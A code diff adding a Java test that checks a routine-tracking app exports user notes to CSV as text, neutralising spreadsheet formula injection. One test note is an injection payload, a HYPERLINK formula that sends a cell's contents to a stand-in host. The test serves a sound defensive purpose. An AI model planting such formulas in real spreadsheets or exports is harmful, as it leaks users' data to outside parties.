@@ -255,6 +255,22 @@ class ProgressFlowTests {
         assertThat(exported.get(0).get("note").asString()).isEqualTo("Good, \"really\"");
     }
 
+    /** A note anyone with the link may write is text in a spreadsheet, never a formula; the app's own numbers are as they were. */
+    @Test
+    void aNoteThatCouldStartAFormulaIsExportedAsText() {
+        String id = routine(LOWER_BACK).get("id").asString();
+        post("/api/routines/" + id + "/sessions", "{\"painBefore\":5, \"painAfter\":0, \"note\":\"-1 after\"}");
+        post("/api/routines/" + id + "/sessions", """
+            {"painBefore":10, "painAfter":3, "note":"=HYPERLINK(\\"http://example.com/?\\"&A1,\\"Click\\")"}""");
+
+        List<String> lines = get("/routines/" + id + "/sessions.csv", "text/csv").getResponseBody().lines().toList();
+
+        assertThat(lines).hasSize(3);
+        assertThat(lines.subList(1, 3)).allSatisfy(line -> assertThat(line).matches("\\d{4}-\\d\\d-\\d\\dT[^,]*Z,.*"))
+            .extracting(line -> line.substring(line.indexOf(',')))
+            .containsExactlyInAnyOrder(",10,3,,\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"Click\"\")\"", ",5,0,,'-1 after");
+    }
+
     @Test
     void thisDeviceListsTheRoutinesItOpenedWithTheLastPainAndForgetsOnRequest() {
         String first = routine(LOWER_BACK).get("id").asString();
